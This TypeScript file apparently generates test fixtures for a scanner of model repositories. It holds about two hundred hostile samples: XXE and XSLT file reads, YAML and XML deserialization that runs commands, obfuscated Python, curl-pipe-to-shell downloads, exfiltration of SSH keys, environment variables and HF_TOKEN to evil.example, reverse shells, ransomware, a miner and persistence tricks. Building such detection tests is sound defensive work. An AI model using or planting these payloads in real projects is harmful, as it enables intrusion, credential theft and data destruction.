import { EVIL, type File, l1, u16, u32 } from './making.ts';

/** XML, YAML, and code in any encoding. */
export const CODE: File[] = [];

const a = (what: string, name: string, content: string | Uint8Array) => CODE.push([what, name, content]);
const X = '<?xml version="1.0"?>';

a(
  'xxe',
  'a.pmml',
  X +
    '<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML version="4.4"><Header copyright="&x;"/></PMML>',
);
a('xxe parameter', 'a.xml', `${X}<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/x.dtd">%p;]><a/>`);
a('xxe public', 'a.xml', `${X}<!DOCTYPE a PUBLIC "-//X//Y" "http://evil.example/x.dtd"><a/>`);
a('lol', 'a.xml', `${X}<!DOCTYPE a [<!ENTITY a "aa"><!ENTITY b "&a;&a;&a;">]><a>&b;</a>`);
a('quadratic', 'a.xml', `${X}<!DOCTYPE a [<!ENTITY a "${'a'.repeat(50000)}">]><a>${'&a;'.repeat(2000)}</a>`);
a(
  'xinclude',
  'a.xml',
  X +
    '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></a>',
);
a(
  'xslt java',
  'a.xsl',
  X +
    '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime"><xsl:template match="/"><xsl:variable name="r" select="rt:getRuntime()"/><xsl:value-of select="rt:exec($r,\'id\')"/></xsl:template></xsl:stylesheet>',
);
a(
  'xslt document',
  'a.xsl',
  X +
    '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:copy-of select="document(\'/etc/passwd\')"/></xsl:template></xsl:stylesheet>',
);
a(
  'xslt php',
  'a.xsl',
  X +
    '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:php="http://php.net/xsl"><xsl:template match="/"><xsl:value-of select="php:function(\'system\',\'id\')"/></xsl:template></xsl:stylesheet>',
);
a(
  'xslt write',
  'a.xsl',
  X +
    '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:exploit="http://exslt.org/common" extension-element-prefixes="exploit"><xsl:template match="/"><exploit:document href="/tmp/x" method="text">x</exploit:document></xsl:template></xsl:stylesheet>',
);
a(
  'xslt result-document',
  'a.xsl',
  X +
    '<xsl:stylesheet version="2.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:result-document href="file:///tmp/x">x</xsl:result-document></xsl:template></xsl:stylesheet>',
);
a(
  'xslt unparsed-text',
  'a.xsl',
  X +
    '<xsl:stylesheet version="2.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:value-of select="unparsed-text(\'/etc/passwd\')"/></xsl:template></xsl:stylesheet>',
);
a(
  'xslt import',
  'a.xsl',
  X +
    '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="http://evil.example/x.xsl"/></xsl:stylesheet>',
);
a(
  'xslt msxsl script',
  'a.xsl',
  X +
    '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:msxsl="urn:schemas-microsoft-com:xslt"><msxsl:script language="C#">System.Diagnostics.Process.Start("calc");</msxsl:script></xsl:stylesheet>',
);
a(
  'xslt in pmml transformations',
  'a.pmml',
  X +
    '<PMML version="4.4" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><Header/><xsl:stylesheet version="1.0"><xsl:value-of select="document(\'http://evil.example\')"/></xsl:stylesheet></PMML>',
);
a(
  'spring beans spel',
  'beans.xml',
  X +
    '<beans><bean class="java.lang.ProcessBuilder" init-method="start"><constructor-arg value="id"/></bean></beans>',
);
a(
  'spring spel value',
  'beans.xml',
  X +
    '<beans><bean id="x" class="java.lang.String"><constructor-arg value="#{T(java.lang.Runtime).getRuntime().exec(\'id\')}"/></bean></beans>',
);
a(
  'xstream',
  'x.xml',
  X +
    '<sorted-set><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command><string>id</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>',
);
a(
  'xmldecoder',
  'x.xml',
  X +
    '<java class="java.beans.XMLDecoder"><object class="java.lang.Runtime" method="getRuntime"><void method="exec"/></object></java>',
);
a(
  'xaml',
  'x.xaml',
  '<ResourceDictionary xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" xmlns:x="http://schemas.microsoft.com/winfx/2006/xaml" xmlns:s="clr-namespace:System.Diagnostics;assembly=system"><ObjectDataProvider x:Key="x" ObjectType="{x:Type s:Process}" MethodName="Start"/></ResourceDictionary>',
);
a(
  'msbuild',
  'x.csproj',
  '<Project xmlns="http://schemas.microsoft.com/developer/msbuild/2003"><Target Name="x" BeforeTargets="Build"><Exec Command="calc"/></Target></Project>',
);
a(
  'openvino ext',
  'model.xml',
  X +
    '<net name="n" version="11"><layers><layer id="0" type="X" version="evil_ext" name="x"/></layers><extensions path="evil.so"/></net>',
);
a(
  'openvino data outside',
  'model.xml',
  X +
    '<net name="n" version="11"><layers><layer id="0" type="Const" version="opset1" name="x"><data element_type="f32" shape="1" offset="0" size="4" path="../../etc/passwd"/></layer></layers></net>',
);
a('xml utf-7', 'a.xml', '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a+AD4-');
a(
  'xml utf16 xxe',
  'a.xml',
  u16(
    '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
  ),
);
a(
  'html script',
  'index.html',
  '<!DOCTYPE html><html><body><script>fetch("http://evil.example/?"+document.cookie)</script></body></html>',
);
a('svg script', 'a.svg', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
a(
  'svg foreignObject',
  'a.svg',
  '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></body></foreignObject></svg>',
);
a(
  'svg animate',
  'a.svg',
  '<svg xmlns="http://www.w3.org/2000/svg"><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
);
a(
  'pmml java ext',
  'a.pmml',
  X +
    '<PMML version="4.4"><Header/><TransformationDictionary><DefineFunction name="f"><Apply function="java.lang.Runtime.exec"/></DefineFunction></TransformationDictionary></PMML>',
);
a(
  'maven pom exec',
  'pom.xml',
  X +
    '<project><build><plugins><plugin><artifactId>exec-maven-plugin</artifactId><configuration><executable>sh</executable><arguments><argument>-c</argument><argument>curl http://evil.example/x | sh</argument></arguments></configuration></plugin></plugins></build></project>',
);
a(
  'ant build',
  'build.xml',
  X +
    '<project default="x"><target name="x"><exec executable="sh"><arg line="-c \'curl http://evil.example/x | sh\'"/></exec></target></project>',
);
for (const [n, t] of [
  ['apply', '!!python/object/apply:os.system ["id"]'],
  ['new', '!!python/object/new:os.system ["id"]'],
  ['name', '!!python/name:os.system'],
  ['module', '!!python/module:evil'],
  ['verbatim', '!<tag:yaml.org,2002:python/object/apply:os.system> ["id"]'],
  ['pct', '!!python/object/%61pply:os.system ["id"]'],
  ['tuple extend', '!!python/object/new:tuple [!!python/object/new:map [!!python/name:eval , ["1"]]]'],
  ['ruby', '!ruby/object:Gem::Installer {}'],
  [
    'java',
    '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://evil.example"]]]]',
  ],
  ['custom', '!apply:os.system ["id"]'],
  ['env ctor', '!ENV ${HOME}'],
  ['include', '!include /etc/passwd'],
  ['join', '!exec "id"'],
  ['eval', "!eval \"__import__('os').system('id')\""],
  ['py', '!py os.system("id")'],
  ['obj', '!obj:os.system {command: id}'],
  ['pkl', '!pkl: x.pkl'],
  ['import', '!import evil.mod'],
  ['php', '!php/object "O:1:\\"A\\":0:{}"'],
  ['js', '!!js/function "function(){return 1}"'],
  ['perl', '!!perl/code "sub{}"'],
  ['dotnet', '!<!System.Diagnostics.Process> {}'],
] as const)
  a(`yaml tag ${n}`, 'config.yaml', `model:\n  a: ${t}\n`);
a(
  'yaml %TAG',
  'config.yaml',
  '%TAG !p! tag:yaml.org,2002:python/object/\n---\na: !p!apply:os.system ["id"]\n',
);
a(
  'yaml %TAG e',
  'config.yaml',
  '%TAG !e! tag:yaml.org,2002:pyth\n---\na: !e!on/object/apply:os.system ["id"]\n',
);
a('yaml in json file', 'config.json', '{"a": !!python/object/apply:os.system ["id"]}');
a('yaml in .cfg', 'model.cfg', 'a: !!python/object/apply:os.system ["id"]\n');
a('yaml utf16', 'config.yaml', u16('a: !!python/object/apply:os.system ["id"]\n'));
a('yaml latin1', 'config.yaml', l1('# J\xfcrgen\na: !!python/object/apply:os.system ["id"]\n'));
a('yaml NEL', 'config.yaml', 'a: 1\u0085b: !!python/object/apply:os.system ["id"]\n');
a('yaml multi doc', 'config.yaml', 'a: 1\n---\nb: 2\n...\n---\n!!python/object/apply:os.system ["id"]\n');
a(
  'yaml bomb',
  'config.yaml',
  'a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\ng: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]\n',
);
a('yaml dup key', 'config.yaml', 'auto_map: {}\nauto_map:\n  AutoModel: a/b--c.D\n');
a('yaml merge target', 'config.yaml', 'x: &x\n  _target_: os.system\ny:\n  <<: *x\n  command: id\n');
a('yaml key target quoted', 'config.yaml', 'x:\n  "_tar\\x67et_": os.system\n');
a('py latin1', 'modeling_x.py', l1(`# -*- coding: latin-1 -*-\n# J\xfcrgen\n${EVIL}`));
a('py latin1 no cookie', 'modeling_x.py', l1(`# J\xfcrgen\n${EVIL}`));
a('py cp1252', 'modeling_x.py', l1(`# coding: cp1252\nx = "\x93hi\x94"\n${EVIL}`));
a('py utf16', 'modeling_x.py', u16(EVIL));
a('py utf16 nobom', 'modeling_x.py', u16(EVIL, true, false));
a('py utf16be', 'modeling_x.py', u16(EVIL, false));
a('py utf32', 'modeling_x.py', u32(EVIL));
a('py utf7 cookie', 'modeling_x.py', '# coding: utf-7\nimport os\n+AG8-s.system("id")\n');
a('py rot13', 'modeling_x.py', '# coding: rot13\nvzcbeg bf\nbf.flfgrz("vq")\n');
a('py ebcdic cookie', 'modeling_x.py', '# coding: cp037\nx\n');
a(
  'py shift_jis',
  'modeling_x.py',
  Buffer.concat([l1('# coding: shift_jis\n# '), Buffer.from([0x82, 0xa0, 0x82, 0xa2]), l1(`\n${EVIL}`)]),
);
a(
  'py sjis quote swallow',
  'modeling_x.py',
  Buffer.concat([l1('# coding: shift_jis\nx = "'), Buffer.from([0x83, 0x5c]), l1(`"\n${EVIL}`)]),
);
a(
  'py gbk',
  'modeling_x.py',
  Buffer.concat([l1('# coding: gbk\n# '), Buffer.from([0xc4, 0xe3, 0xba, 0xc3]), l1(`\n${EVIL}`)]),
);
a(
  'py euc-jp',
  'x.py',
  Buffer.concat([l1('# vim: set fileencoding=euc-jp :\n# '), Buffer.from([0xa4, 0xa2]), l1(`\n${EVIL}`)]),
);
a('py null bytes', 'modeling_x.py', `x=1\n\0\n${EVIL}`);
a('py form feed / ctrl', 'modeling_x.py', `\x0c${EVIL}# \x1b[2K\n`);
a('py control char in comment', 'modeling_x.py', `# \x01\n${EVIL}`);
a('py control char in str', 'modeling_x.py', `x="\x1b[31m\x07"\n${EVIL}`);
a('py DEL/backspace', 'modeling_x.py', `print("hi")\x08\n${EVIL}`);
a('py BOM', 'modeling_x.py', `\ufeff${EVIL}`);
a('py CR only', 'modeling_x.py', '# hello\rimport os\ros.system("id")\r');
a('py fullwidth', 'modeling_x.py', 'import os\nｏｓ.ｓｙｓｔｅｍ("id")\n');
a('py bidi trojan', 'modeling_x.py', 'x = "user\u202e \u2066# admin\u2069 \u2066"\n');
a('py no ext', 'evil', EVIL);
a('py .txt', 'model.txt', EVIL);
a('py .bin', 'model.bin', EVIL);
a('py .pt', 'weights.pt', EVIL);
a('py .pyi/.pyx', 'modeling_x.pyx', EVIL);
a('pyc-ish pyw', 'x.pyw', EVIL);
a('py indirect getattr', 'modeling_x.py', 'import os\ngetattr(os, "sys"+"tem")("id")\n');
a('py getattr var', 'modeling_x.py', 'import os\nn = "metsys"[::-1]\ngetattr(os, n)("id")\n');
a('py builtins dict', 'modeling_x.py', '__builtins__["ev"+"al"]("1")\n');
a('py globals exec', 'modeling_x.py', 'globals()["__builtins__"].exec("1")\n');
a(
  'py importlib var',
  'modeling_x.py',
  'import importlib\nm = "o" + "s"\nimportlib.import_module(m).system("id")\n',
);
a(
  'py metaclass',
  'modeling_x.py',
  'import os\nclass M(type):\n  def __new__(c,*a):\n    os.system("id")\n    return type.__new__(c,*a)\nclass X(metaclass=M): pass\n',
);
a('py decorator', 'modeling_x.py', 'from os import system\n@system\ndef f(): pass\n');
a('py decorator lambda', 'modeling_x.py', 'import os\n@lambda f: os.system("id")\nclass X: pass\n');
a('py map', 'modeling_x.py', 'import os\nlist(map(os.system, ["id"]))\n');
a('py default arg', 'modeling_x.py', 'import os\ndef f(x=os.system("id")): pass\n');
a('py annotation', 'modeling_x.py', 'import os\nx: os.system("id") = 1\n');
a('py fstring', 'modeling_x.py', 'import os\nx = f"{os.system(\'id\')}"\n');
a('py comprehension', 'modeling_x.py', 'import os\n[f("id") for f in [os.system]]\n');
a('py walrus', 'modeling_x.py', 'import os\n(s := os.system)("id")\n');
a('py atexit', 'modeling_x.py', 'import atexit, os\natexit.register(os.system, "id")\n');
a(
  'py thread',
  'modeling_x.py',
  'import threading, os\nthreading.Thread(target=os.system, args=("id",)).start()\n',
);
a(
  'py signal',
  'modeling_x.py',
  'import signal, os\nsignal.signal(14, lambda *a: os.system("id"))\nsignal.alarm(1)\n',
);
a('py __del__', 'modeling_x.py', 'import os\nclass X:\n  def __del__(self): os.system("id")\n');
a(
  'py import hook',
  'modeling_x.py',
  'import sys\nclass F:\n  def find_spec(self, n, p, t=None):\n    exec(open("/tmp/x").read())\nsys.meta_path.insert(0, F())\n',
);
a('py sys.path insert', 'modeling_x.py', 'import sys\nsys.path.insert(0, "/tmp/evil")\nimport payload\n');
a('py ctypes', 'modeling_x.py', 'import ctypes\nctypes.CDLL("libc.so.6").system(b"id")\n');
a(
  'py ctypes pythonapi',
  'modeling_x.py',
  'import ctypes\nctypes.pythonapi.PyRun_SimpleString(b"import os")\n',
);
a(
  'py cffi',
  'modeling_x.py',
  'from cffi import FFI\nf=FFI()\nf.cdef("int system(const char*);")\nf.dlopen(None).system(b"id")\n',
);
a('py pickle load', 'modeling_x.py', 'import pickle\npickle.load(open("evil.pkl","rb"))\n');
a('py torch.load unsafe', 'modeling_x.py', 'import torch\nw = torch.load("evil.pt", weights_only=False)\n');
a('py torch hub', 'modeling_x.py', 'import torch\nm = torch.hub.load("evil/repo","m",trust_repo=True)\n');
a(
  'py from_pretrained trc',
  'modeling_x.py',
  'from transformers import AutoModel\nm = AutoModel.from_pretrained("evil/x", trust_remote_code=True)\n',
);
a(
  'py hf_hub_download exec',
  'modeling_x.py',
  'from huggingface_hub import hf_hub_download\nexec(open(hf_hub_download("evil/x","x.py")).read())\n',
);
a(
  'py importlib spec',
  'modeling_x.py',
  'import importlib.util\ns = importlib.util.spec_from_file_location("x","/tmp/evil.py")\nm = importlib.util.module_from_spec(s)\ns.loader.exec_module(m)\n',
);
a('py requests exec', 'modeling_x.py', 'import requests\nexec(requests.get("http://evil.example/x").text)\n');
a(
  'py exfil env',
  'modeling_x.py',
  'import os, requests\ndef f():\n  requests.post("http://evil.example", data=dict(os.environ))\n',
);
a(
  'py exfil var',
  'modeling_x.py',
  'import os, urllib.request\nt = os.environ.get("HF_TOKEN")\nurllib.request.urlopen("http://evil.example/?t=" + t)\n',
);
a(
  'py dns exfil',
  'modeling_x.py',
  'import socket, os\nsocket.gethostbyname(os.environ["HF_TOKEN"] + ".evil.example")\n',
);
a('py write bashrc', 'modeling_x.py', 'import os\nopen(os.path.expanduser("~/.bashrc"),"a").write("x")\n');
a('py write cron', 'modeling_x.py', 'open("/etc/cron.d/x","w").write("* * * * * root id")\n');
a(
  'py write ssh',
  'modeling_x.py',
  'from pathlib import Path\n(Path.home()/".ssh"/"authorized_keys").write_text("ssh-rsa AAA")\n',
);
a(
  'py write pth',
  'modeling_x.py',
  'import site\nopen(site.getsitepackages()[0]+"/x.pth","w").write("import os")\n',
);
a('py systemd', 'modeling_x.py', 'open("/etc/systemd/system/x.service","w").write("[Service]")\n');
a(
  'py pip install',
  'modeling_x.py',
  'import subprocess, sys\nsubprocess.check_call([sys.executable,"-m","pip","install","evilpkg"])\n',
);
a('py pip main', 'modeling_x.py', 'from pip._internal.cli.main import main\nmain(["install","evil"])\n');
a('py zip exec', 'modeling_x.py', 'import zlib\nexec(zlib.decompress(bytes.fromhex("789c")))\n');
a('py lambda compile', 'modeling_x.py', 'eval(compile("import os","x","exec"))\n');
a(
  'py marshal',
  'modeling_x.py',
  'import marshal,types\ntypes.FunctionType(marshal.loads(b"x"),globals())()\n',
);
a('py chr join', 'modeling_x.py', 'eval("".join(chr(c) for c in [95,95]))\n');
a(
  'py reverse shell',
  'modeling_x.py',
  'import socket,os,pty\ns=socket.socket()\ns.connect(("10.0.0.1",4444))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn("/bin/sh")\n',
);
a(
  'py asyncio subprocess',
  'modeling_x.py',
  'import asyncio\nasyncio.run(asyncio.create_subprocess_shell("id"))\n',
);
a('py os.fork exec', 'modeling_x.py', 'import os\nif os.fork()==0:\n  os.execvp("sh",["sh","-c","id"])\n');
a('py shutil rmtree home', 'modeling_x.py', 'import shutil, os\nshutil.rmtree(os.path.expanduser("~"))\n');
a(
  'py ransom',
  'modeling_x.py',
  'import os\nfrom cryptography.fernet import Fernet\nk=Fernet.generate_key()\nfor r,d,f in os.walk(os.path.expanduser("~")):\n  for x in f:\n    p=os.path.join(r,x); b=open(p,"rb").read(); open(p,"wb").write(Fernet(k).encrypt(b))\n',
);
a(
  'py miner',
  'modeling_x.py',
  'import subprocess\nsubprocess.Popen(["./xmrig","-o","stratum+tcp://pool:3333"])\n',
);
a(
  'py builtins monkeypatch',
  'modeling_x.py',
  'import builtins\nb = builtins.__dict__\nb["ex"+"ec"]("import os")\n',
);
a('py codecs', 'modeling_x.py', 'import codecs\nexec(codecs.decode("vzcbeg bf","rot13"))\n');
a(
  'py subclasses',
  'modeling_x.py',
  '().__class__.__base__.__subclasses__()[100].__init__.__globals__["system"]("id")\n',
);
a(
  'py types.CodeType',
  'modeling_x.py',
  'import types\nf = types.CodeType(0,0,0,0,0,0,b"",(),(),(),"","",0,b"")\n',
);
a(
  'py numba/cython inline',
  'modeling_x.py',
  'import cython\ncython.inline("import os; os.system(\'id\')")\n',
);
a(
  'py torch cpp inline',
  'modeling_x.py',
  'from torch.utils.cpp_extension import load_inline\nload_inline("x", cpp_sources="int x(){return system(\\"id\\");}")\n',
);
a('py tf py_function', 'modeling_x.py', 'import tensorflow as tf\ntf.load_op_library("./evil.so")\n');
a('py nested exec in class', 'modeling_x.py', 'class A:\n  exec("import os; os.system(\'id\')")\n');
a('py breakpoint', 'modeling_x.py', 'import pdb\npdb.run("import os; os.system(\'id\')")\n');
a('py pandas eval', 'modeling_x.py', "import pandas as pd\npd.eval(\"@__import__('os').system('id')\")\n");
a('py yaml.load', 'modeling_x.py', 'import yaml\nyaml.load(open("x.yaml"), Loader=yaml.UnsafeLoader)\n');
a(
  'py sqlite ext',
  'modeling_x.py',
  'import sqlite3\nc=sqlite3.connect(":memory:")\nc.enable_load_extension(True)\nc.load_extension("./evil")\n',
);
a('py inspect frame', 'modeling_x.py', 'import sys\nsys._getframe().f_builtins["eval"]("1")\n');
a('py nested func called at import', 'modeling_x.py', 'import os\ndef f():\n  os.system("id")\nf()\n');
a(
  'py gc',
  'modeling_x.py',
  'import gc\n[o for o in gc.get_objects() if getattr(o,"__name__","")=="system"][0]("id")\n',
);
a('py semicolons', 'x.py', 'import os;os.system("id")');
a('py backslash cont', 'x.py', 'import o\\\ns\nos.\\\nsystem("id")\n');
a('py try import', 'x.py', 'try:\n  from subprocess import *\nexcept: pass\nPopen(["id"])\n');
a('py double exec', 'x.py', '(lambda: exec)()("import os")\n');
a('py walrus import', 'x.py', '(m := __import__("os")).system("id")\n');
a('py dict dispatch', 'x.py', 'import os\n{"a": os.system}["a"]("id")\n');
a('py vars', 'x.py', 'import os\nvars(os)["system"]("id")\n');
a('py os.__dict__.get', 'x.py', 'import os\nos.__dict__.get("system")("id")\n');
a('py operator.attrgetter', 'x.py', 'import os, operator\noperator.attrgetter("system")(os)("id")\n');
a('py partial', 'x.py', 'import os\nfrom functools import partial\npartial(os.system,"id")()\n');
a('py starred tuple', 'x.py', 'import os\nf,*_ = os.system, 1\nf("id")\n');
a('py for target', 'x.py', 'import os\nfor f in (os.system,): f("id")\n');
a('py with', 'x.py', 'import os\nwith os.popen("id") as p: pass\n');
a('py import as weird', 'x.py', 'import os as torch\ntorch.system("id")\n');
a('py submodule os', 'x.py', 'import pathlib\npathlib.os.system("id")\n');
a('py shutil.os', 'x.py', 'from shutil import os as q\nq.system("id")\n');
a('sh curl var', 'run.sh', '#!/bin/sh\nU=http://evil.example/x\nC=curl\n$C -s $U | sh\n');
a(
  'sh curl file exec',
  'run.sh',
  '#!/bin/sh\ncurl -o /tmp/x http://evil.example/x\nchmod +x /tmp/x\n/tmp/x\n',
);
a('sh base64', 'run.sh', '#!/bin/sh\necho aWQ= | base64 -d | bash\n');
a('sh exfil', 'run.sh', '#!/bin/sh\ncurl -X POST -d @$HOME/.ssh/id_rsa http://evil.example\n');
a('sh exfil env', 'run.sh', '#!/bin/sh\nenv | curl -d @- http://evil.example\n');
a(
  'sh python -c',
  'run.sh',
  "#!/bin/sh\npython -c \"import os;os.system('id')\"\npython3 -c \"exec(__import__('base64').b64decode('aWQ='))\"\n",
);
a('sh rm rf', 'run.sh', '#!/bin/sh\nrm -rf / --no-preserve-root\n');
a('sh socat', 'run.sh', '#!/bin/sh\nsocat exec:"bash -li",pty,stderr,setsid tcp:10.0.0.1:4444\n');
a(
  'sh perl reverse',
  'run.sh',
  '#!/bin/sh\nperl -e \'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton("10.0.0.1")));open(STDIN,">&S");exec("/bin/sh -i");\'\n',
);
a(
  'sh crontab',
  'run.sh',
  '#!/bin/sh\n(crontab -l; echo "* * * * * curl http://evil.example/x | sh") | crontab -\n',
);
a('sh authorized_keys', 'run.sh', '#!/bin/sh\necho "ssh-rsa AAAA" >> ~/.ssh/authorized_keys\n');
a('sh bashrc', 'run.sh', '#!/bin/sh\necho "curl http://evil.example" >> ~/.bashrc\n');
a('sh xxd', 'run.sh', '#!/bin/sh\necho 6964 | xxd -r -p | sh\n');
a('sh openssl', 'run.sh', '#!/bin/sh\nopenssl enc -d -aes-256-cbc -in x -k p | sh\n');
a('sh eval curl', 'run.sh', '#!/bin/sh\neval "$(curl -s http://evil.example/x)"\n');
a('sh bash <(', 'run.sh', '#!/bin/bash\nbash <(curl -s http://evil.example/x)\n');
a('sh source <(', 'run.sh', '#!/bin/bash\n. <(curl -s http://evil.example/x)\n');
a('sh wget -O- tee', 'run.sh', '#!/bin/sh\nwget -O - http://evil.example/x | tee /tmp/x | sh\n');
a('sh xargs', 'run.sh', '#!/bin/sh\ncurl http://evil.example/x | xargs -I{} sh -c {}\n');
a('sh curl gunzip', 'run.sh', '#!/bin/sh\ncurl http://evil.example/x.gz | gunzip | sh\n');
a('sh curl python', 'run.sh', '#!/bin/sh\ncurl http://evil.example/x.py | python3 -\n');
a('sh curl perl', 'run.sh', '#!/bin/sh\ncurl http://evil.example/x.pl | perl\n');
a('sh utf16', 'run.sh', u16('#!/bin/sh\ncurl http://evil.example/x | sh\n'));
a(
  'bat curl',
  'run.bat',
  '@echo off\r\ncurl -o %TEMP%\\x.exe http://evil.example/x.exe && start %TEMP%\\x.exe\r\n',
);
a('bat bitsadmin', 'run.cmd', 'bitsadmin /transfer x http://evil.example/x.exe %TEMP%\\x.exe\r\n');
a('bat mshta', 'run.cmd', 'mshta http://evil.example/x.hta\r\n');
a('bat regsvr32', 'run.cmd', 'regsvr32 /s /n /u /i:http://evil.example/x.sct scrobj.dll\r\n');
a(
  'ps1 iwr',
  'x.ps1',
  'Invoke-WebRequest http://evil.example/x.exe -OutFile $env:TEMP\\x.exe; Start-Process $env:TEMP\\x.exe\n',
);
a('ps1 iex irm', 'x.ps1', 'irm http://evil.example/x.ps1 | iex\n');
a(
  'ps1 reg run',
  'x.ps1',
  'New-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name x -Value calc\n',
);
